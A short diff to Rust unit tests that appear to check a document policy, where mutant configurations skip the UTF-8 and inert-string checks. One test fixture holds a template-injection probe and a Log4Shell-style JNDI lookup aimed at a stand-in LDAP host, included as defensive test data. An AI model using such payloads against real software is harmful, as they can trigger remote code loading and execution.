@@ -131,7 +131,7 @@ mod tests {
     #[test]
     fn only_the_mutant_reads_other_encodings_than_utf8() {
         let guessing = DocumentPolicy {
-            utf8: Check::Skip,
+            utf8: Check::Skip.into(),
             ..DocumentPolicy::default()
         };
         let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(*b"{\0}\0").collect();
@@ -152,7 +152,7 @@ mod tests {
     #[test]
     fn only_the_mutant_carries_texts_out() {
         let obeying = DocumentPolicy {
-            strings_inert: Check::Skip,
+            strings_inert: Check::Skip.into(),
             ..DocumentPolicy::default()
         };
         let document = json!({ "client_name": "a{{7*6}}", "contacts": ["${jndi:ldap://h.example/x}"] });
